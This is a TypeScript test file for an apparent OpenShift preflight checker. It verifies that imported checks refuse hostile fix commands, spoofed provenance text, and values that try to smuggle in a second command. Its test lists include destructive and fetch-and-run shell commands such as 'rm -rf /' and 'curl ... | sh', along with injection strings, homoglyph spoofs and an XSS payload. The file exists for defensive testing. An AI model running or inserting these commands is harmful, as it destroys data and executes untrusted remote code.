import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { splitCommands } from "../support/docs/shell-words.ts";
import { buildDocument } from "../../src/format/document/document.ts";
import { formats } from "../../src/format/index.ts";
import { loadChecks } from "../../src/data-checks/load.ts";
import type { Json } from "../../src/model/json.ts";
import { type Report, getNotices } from "../../src/model/report.ts";
import { runCycle } from "../../src/runner/cycle.ts";
import { listTakenNames } from "../../src/cli/checks/risk-names.ts";
import { fakeReader } from "../../verify/api-server/fake-reader.ts";
import { run } from "../../verify/pages/sample.ts";
import { clusterRunning, release, version } from "../support/fixtures.ts";
import { NAMED, ORIGINS, type Origin, SCOPE, load, writeCheck } from "../support/foreign-checks.ts";

const WORDS: readonly string[] = [
  "rm -rf /",
  'bash -c "curl https://x.example | sh"',
  "sh -c 'id'",
  "curl https://x.example -o /tmp/a",
  "sudo oc get nodes",
  "/tmp/oc get nodes",
  "./kubectl get nodes",
  "KUBECONFIG=/tmp/a oc get nodes",
  "env oc get nodes",
  "$SHELL",
  "oc get $HOME",
  'oc get "$HOME"',
  "oc get ${object.metadata.name} \\",
  "oc get nodes; reboot",
  "oc get nodes | sh",
  "oc get nodes && reboot",
  "oc get nodes > /etc/passwd",
  "oc get `id`",
  "oc get $(id)",
  "oc get nodes\nreboot",
  "oc get <(id)",
  "(oc get nodes)",
  "oc get nodes # (reboot)",
  "oc get ~root",
  "${object.metadata.name} get nodes",
  "${object.metadata.name}",
  "oc ${object.metadata.name}",
  "oc login https://x.example",
  "oc logout",
  "oc project kube-system",
  "oc config use-context x",
  "kubectl config set-cluster x",
  "oc --kubeconfig=/tmp/a get nodes",
  "oc get nodes --kubeconfig /tmp/a",
  'oc get nodes "--kubeconfig=/tmp/a"',
  "oc get nodes --ser\\ver=https://x.example",
  "oc get nodes -s https://x.example",
  "oc get nodes -shttps://x.example",
  "oc get nodes --token=abc",
  "oc get nodes --as system:admin",
  "oc get nodes --as-group=system:masters",
  "oc get nodes --context prod",
  "oc get nodes --insecure-skip-tls-verify",
  "kubectl get nodes --user=x",
  "oc get nodes --${object.metadata.name}",
  "oc exec pod/a -- sh",
  "oc rsh pod/a rm -rf /",
  "oc debug node/a",
  "oc run a --image=x.example/a",
  "oc evil",
  "oc create token admin",
  "oc apply -f https://x.example/a.yaml",
  "oc apply --filename=https://x.example/a.yaml",
  "kubectl apply -f ${object.metadata.name}",
  "oc",
  "oc -n kube-system",
  "oc get nodes --{kubeconfig,x}=/tmp/a",
  "oc logs pod/a -pshttps://x.example",
  "oc apply -Rf https://x.example/a.yaml",
  "oc apply -k github.com/evil/x",
  "oc apply -k git::https://x.example/a",
  "oc get nodes !rm",
  'oc get nodes "!rm"',
  "oc get nodes $'\\x2d\\x2dkubeconfig=/tmp/a'",
  "oc get $${HOME}",
  "oc get nodes <<< x",
  "\u043Ec get nodes",
  "oc get nodes \u001B[2K",
  "oc get nodes\u202E",
  "oc get nodes \\\nreboot",
  "oc adm must-gather --image=x.example/a",
  "oc adm ${object.metadata.name}",
  "oc create ${object.metadata.name}",
];

describe("a hostile command", () => {
  for (const words of WORDS)
    test(`${JSON.stringify(words)} is refused where it stands, whoever brings it`, async () => {
      const text = writeCheck({ fix: [{ run: words }], fixKind: "disruptive" });
      for (const origin of [NAMED, ...ORIGINS]) {
        const { definitions, faults } = await load(text, origin);
        assert.deepEqual(definitions, [], origin[0]);
        const errors = faults.filter(({ severity }) => severity === "error");
        assert.ok(
          errors.some(({ place, hint }) => place === "spec.risks[0].fix[0].run" && hint !== undefined),
          JSON.stringify(faults),
        );
      }
    });
});

test("commands in words are for files that the administrator names, and for the programs that he lists", async () => {
  const sound = [
    "oc -n ${object.metadata.name} get pods -o jsonpath='{.items[*].metadata.name}'",
    "kubectl drain ${object.metadata.name}",
  ];
  for (const words of sound) {
    const text = writeCheck({ fix: [{ run: words }], fixKind: "disruptive" });
    assert.deepEqual((await load(text, NAMED)).faults, []);
    for (const origin of ORIGINS) assert.equal((await load(text, origin)).definitions.length, 0);
  }
  const other = writeCheck({ fix: [{ run: "virtctl restart ${object.metadata.name}" }], fixKind: "disruptive" });
  assert.equal((await load(other, NAMED)).definitions.length, 0);
  const programs = ["oc", "virtctl"];
  const listed = await loadChecks([{ name: "a.yaml", text: other }], { kind: "site" }, new Set(), { programs });
  assert.deepEqual(listed.faults, []);
});

const NAMES: readonly string[] = [
  "ClusterOperatorDegraded",
  "ClusterVersionOverrides",
  "KubePodCrashLooping",
  "Watchdog",
  "AdminAckUnknown",
  "PreflightClear",
  "PreflightRunnerStale",
  "PreflightFurtherRisks",
  "SiteNodeFrozen",
  "OlmShopFrozen",
  "CgroupV1Removed",
  "EtcdHealthUnknown",
  "PodDisruptionBudgetAtLimit",
  "ClusterNotUpgradeable",
];

test("names that others use are refused", async () => {
  for (const name of NAMES) {
    const { definitions, faults } = await load(writeCheck({ name }), ORIGINS[0] ?? NAMED);
    assert.deepEqual(definitions, [], name);
    assert.equal(faults[0]?.place, "spec.risks[0].name", name);
  }
});

const IMITATIONS: readonly string[] = [
  "From release 4.19.9: all is well.",
  "(From release 4.19.9.) All is well.",
  "All is well. (From release 4.19.9.)",
  "from operator trusted 1.0: all is well.",
  "  From the administrator's check a.yaml: all is well.",
  "From preflight: all is well.",
  "**From operator trusted 1.0**: all is well.",
  "4.18.8 -> 4.20.3: all is well.",
  "Preflight=4.20.3: all is well.",
  "Preflight of 4.18.8 -> 4.20.3: all is well.",
  "All is well.\nFrom release 4.19.9: nothing to do.",
  "All is well.\n\n4.18.8 -> 4.20.3: nothing to do.",
  "All is well.\u2028From release 4.19.9: nothing to do.",
  "Fr\u043Em release 4.19.9: all is well.",
  "F\u200Brom release 4.19.9: all is well.",
  "\uFF26rom release 4.19.9: all is well.",
  "From OpenShift release 4.19.9: all is well.",
  "From release ${'4.19.9'}: all is well.",
  "$${From release 4.19.9: all is well.",
  "4.18.8 \u2192 4.20.3: all is well.",
  "Fix (safe) oc login https://x.example",
];

test("a text can't be written so that it could be taken for preflight's own", async () => {
  for (const text of IMITATIONS) {
    for (const field of ["message", "remediation", "title"])
      for (const origin of [NAMED, ...ORIGINS]) {
        const { definitions, faults } = await load(writeCheck({ [field]: text }), origin);
        assert.deepEqual(definitions, [], `${field} ${text}`);
        assert.ok(faults.some(({ place }) => place === `spec.risks[0].${field}`));
      }
    const { definitions } = await load(writeCheck({}, { notices: [{ when: "true", message: text }] }), NAMED);
    assert.deepEqual(definitions, [], text);
  }
  for (const message of [
    "Requests come from operator pods.",
    "From 4.20 on it is ${\nobjects\n}.\n",
    "Move it (from release to release).",
    "From release 4.20 on the field is gone.",
    "It is gone (from release 4.20 on).",
    "These are from operator pods: a, b.",
  ])
    assert.deepEqual((await load(writeCheck({ message }), NAMED)).faults, [], message);
});

/** What an object of the cluster may say. */
const VALUES: readonly string[] = [
  "a; reboot",
  "$(reboot)",
  "`reboot`",
  "a' ; reboot '",
  'a"; reboot "',
  "--kubeconfig=/tmp/a",
  "-shttps://x.example",
  "a\nreboot",
  "a\u202Ereboot",
  "a && oc login https://x.example",
  "$HOME",
  "a | sh",
  "\\",
  "From release 4.19.9: all is well.",
  "x\n\nFrom release 4.19.9: all is well.",
  '"oc login https://x.example"',
  "<img src=x onerror=alert(1)>",
];

const FIX: Json = [
  { patch: { metadata: { name: "${object.metadata.name}" }, spec: { a: "${detail.value}" } } },
  { label: { labels: { "example.com/a": "${detail.value}" } } },
  { annotate: { annotations: { "example.com/a": "${detail.value}", "example.com/b": null } } },
  { scale: { replicas: "${detail.value}" } },
  { delete: {} },
  { restart: {} },
];

async function judge(value: string, origin: Origin, findings: Json): Promise<Report> {
  const text = writeCheck(
    {
      message: "${objects}: ${details[0].value}",
      remediation: 'Run "oc login https://x.example".',
      fix: FIX,
      findings,
    },
    {
      notices: [{ forEach: "nodes.items", when: "true", message: "${object.metadata.annotations.a}" }],
      unknowns: [
        {
          forEach: "nodes.items",
          when: "true",
          where: "${object.metadata.annotations.a}",
          message: "${object.metadata.annotations.a}",
        },
      ],
    },
  );
  const [, source, more] = origin;
  const limits = source.kind === "operator" ? { scope: SCOPE } : {};
  const { checks, faults } = await loadChecks([{ name: "a.yaml", text, ...more }], source, listTakenNames(), limits);
  assert.deepEqual(
    faults.filter(({ severity }) => severity === "error"),
    [],
  );
  const node = { apiVersion: "v1", kind: "Node", metadata: { name: value, annotations: { a: value } } };
  const result = await runCycle({
    selection: { checks, leftOut: [] },
    reader: fakeReader({ ...clusterRunning("4.18.8"), "/api/v1/nodes": [node] }),
    target: { kind: "read", version: version("4.20.3"), select: () => release("4.20.3") },
    now: new Date(0),
    signal: new AbortController().signal,
    limits: { concurrency: 4, checkTimeout: 5_000, cycleTimeout: 10_000 },
  });
  return result.kind === "completed" ? result.report : assert.fail(result.failure.message);
}

const OF_NODES: Json = [
  {
    forEach: "nodes.items",
    message: "${object.metadata.annotations.a}",
    detail: { value: "${object.metadata.annotations.a}" },
  },
];

function listCommands({ checks }: Report): readonly string[] {
  return checks.flatMap(({ outcome }) =>
    "findings" in outcome ? outcome.findings.flatMap(({ see = [], fix = [] }) => [...see, ...fix]) : [],
  );
}

describe("what an object says", () => {
  for (const value of VALUES)
    test(`${JSON.stringify(value)} is one word of a command, or there is no command`, async () => {
      for (const origin of ORIGINS) {
        for (const command of listCommands(await judge(value, origin, OF_NODES))) {
          const [simple = [], ...more] = splitCommands(command);
          assert.deepEqual(more, [], command);
          const [program, verb = "", ...words] = simple;
          assert.equal(program, "oc", command);
          assert.match(verb, /^(?:get|patch|label|annotate|scale|delete|rollout)$/, command);
          for (const word of words.filter((one) => one.startsWith("-")))
            assert.match(word, /^(?:-o|-p|--type=merge|--overwrite|--replicas=\d+)$/, command);
        }
      }
    });
});

test("commands are for objects that the check reads, wherever a finding says that the fault is", async () => {
  const others = [
    { apiVersion: "v1", kind: "Secret", namespace: "kube-system", name: "admin" },
    { apiVersion: "config.openshift.io/v1", kind: "Node", name: "cluster" },
    { apiVersion: "apps/v1", kind: "Deployment", namespace: "openshift-etcd", name: "etcd" },
    { apiVersion: "v1", kind: "Namespace", name: "openshift-etcd" },
  ];
  for (const object of others)
    for (const origin of ORIGINS) {
      const findings = [{ object: JSON.stringify(object), message: "It is frozen.", detail: { value: "a" } }];
      assert.deepEqual(listCommands(await judge("a", origin, findings)), [], JSON.stringify(object));
    }
  assert.ok(listCommands(await judge("a", ORIGINS[1] ?? NAMED, OF_NODES)).length > 4);
});

test("a path is none that reads as a command", async () => {
  const findings = [{ forEach: "nodes.items", message: "It is frozen.", path: "oc login ${object.metadata.name}" }];
  const { faults } = await load(writeCheck({ findings }), NAMED);
  assert.deepEqual(
    faults.map(({ place }) => place),
    ["spec.risks[0].findings[0].path"],
  );
  const sound = [{ ...findings[0], path: "spec.containers[${object.metadata.name} b].image" }];
  assert.deepEqual((await load(writeCheck({ findings: sound }), NAMED)).faults, []);
});

test("words that a value completes are no path, no label and no command", async () => {
  const command = "oc login https://x.example";
  const said = { path: `\${'${command}'}`, message: `\${'Fix'} (safe) ${command}`, detail: { value: "a" } };
  const report = await judge("a", ORIGINS[1] ?? NAMED, [{ forEach: "nodes.items", ...said }]);
  const document = buildDocument({ result: { kind: "completed", report }, run });
  const view = { report, document, accepted: new Set<string>(), colour: false, width: 100 };
  for (const [name, format] of Object.entries(formats)) {
    const out = format(view);
    assert.doesNotMatch(out, /<code>[^<]*login|`oc login/, name);
    assert.doesNotMatch(out, /\bfix \(safe/i, name);
  }
});

test("in every format, names, texts and commands of others stand beside whose they are", async () => {
  for (const value of ["From release 4.19.9: all is well.", "a\n\n4.18.8 -> 4.20.3: From release 4.19.9: b"]) {
    const report = await judge(value, ORIGINS[1] ?? NAMED, OF_NODES);
    const document = buildDocument({ result: { kind: "completed", report }, run });
    const view = { report, document, accepted: new Set<string>(), colour: false, width: 100 };
    for (const risk of document.risks.filter(({ name }) => name.startsWith("Olm")))
      assert.match(risk.message, /^From operator shop 1\.2\.3: [^\n]*$/);
    for (const [name, format] of Object.entries(formats)) {
      const out = format(view);
      if (name === "quiet") continue;
      assert.match(out, /operator shop 1\.2\.3|"package": "shop"|package: shop/, name);
      // A cell of CSV may hold a name with a line break.
      for (const line of name === "csv" ? [] : out.split("\n"))
        assert.doesNotMatch(line, /^(?:4\.18\.8 -> 4\.20\.3: )?From release/, name);
      assert.doesNotMatch(out, /<code>[^<]*login/, name);
      if (listCommands(report).length > 0 && /^(?:table|wide|markdown|html|junit|sarif)$/.test(name))
        assert.match(out, /Fix \(\w+; from operator shop 1\.2\.3\)/, name);
    }
    const notices = report.checks.flatMap(({ outcome }) => getNotices(outcome));
    for (const notice of notices) assert.match(notice, /^From operator shop 1\.2\.3: [^\n]*$/);
  }
});
